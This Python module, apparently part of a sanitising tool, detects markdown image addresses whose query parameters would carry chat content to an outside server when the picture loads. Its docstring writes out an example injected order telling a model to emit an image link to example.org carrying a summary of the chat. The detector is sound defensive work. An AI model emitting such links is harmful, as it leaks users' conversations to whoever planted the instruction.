"""Addresses that would carry a conversation away once a picture is loaded.

A chat window loads the pictures that an answer names, so a model that is told to write
`![](https://example.org/?q=[summary of the chat])` sends it to whoever wrote that order.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Iterable, Iterator
from urllib.parse import unquote_plus

from sanitize.types import Finding, Severity

#: A gap that somebody is to fill in: brackets of any kind, dots, words in capitals.
_GAP = re.compile(
    r"(?:\$?\{{1,2}\s*[A-Za-z][\w .,'-]{0,80}\}{1,2}"
    r"|\[{1,2}[A-Za-z][\w .,'+-]{1,80}\]{1,2}"
    r"|<[A-Za-z][\w .,'+-]{1,80}>"
    r"|%[A-Z][A-Z_]{2,30}%"
    r"|(?:YOUR|INSERT|THE|USER|CHAT|SECRET)_[A-Z_]{2,40}"
    r"|…|\.\.\.)"
)
#: Names of parameters that wait for a text; others are empty for honest reasons.
_OPEN_NAMES = "q query d data t text m msg message c content p payload prompt chat history secret"
_OPEN = frozenset(_OPEN_NAMES.split())
_WORDS = re.compile(r"[^\W\d_]{2,}")
_ENCODED = re.compile(r"[A-Za-z0-9+/_-]{24,}={0,2}")

#: How dense a screen a picture of a set is for.
_DENSITY = re.compile(r"\s+[0-9.]+[xw]\s*\Z")

#: Words in one parameter that are more than a caption.
MANY_WORDS = 10
#: Longest address that is looked at: browsers and servers stop far below.
MAX_ADDRESS = 8_000


def carries(address: str) -> str:
    """How an address would take something along: `gap`, `text`, `encoded`, or empty."""
    address = _DENSITY.sub("", address[:MAX_ADDRESS])
    head, mark, query = address.partition("?")
    if not mark or not re.match(r"(?:https?:)?//", head, re.IGNORECASE):
        return ""
    return next(filter(None, map(_carries, query.partition("#")[0].split("&"))), "")


def _carries(parameter: str) -> str:
    name, _, value = parameter.rpartition("=")
    said = unquote_plus(value, errors="replace")
    if _GAP.fullmatch(said) or (not said and name.lower() in _OPEN):
        return "gap"
    if len(_WORDS.findall(said)) >= MANY_WORDS:
        return "text"
    return "encoded" if _ENCODED.fullmatch(said) and _is_text(said) else ""


def _is_text(letters: str) -> bool:
    plain = letters.rstrip("=").replace("-", "+").replace("_", "/")
    try:
        data = base64.b64decode(plain + "=" * (-len(plain) % 4))
    except (binascii.Error, ValueError):
        return False
    said = data.decode("utf-8", "replace")
    return said.isprintable() and "\ufffd" not in said and len(_WORDS.findall(said)) >= 3


def findings(addresses: Iterable[str]) -> Iterator[Finding]:
    """`text.exfiltration-link`, once, if a picture's address would carry something."""
    ways = [way for way in map(carries, addresses) if way]
    if ways:
        detail: dict[str, int | float | str] = {"count": len(ways), "how": ways[0]}
        yield Finding("text.exfiltration-link", Severity.MEDIUM, 0.8, detail=detail)
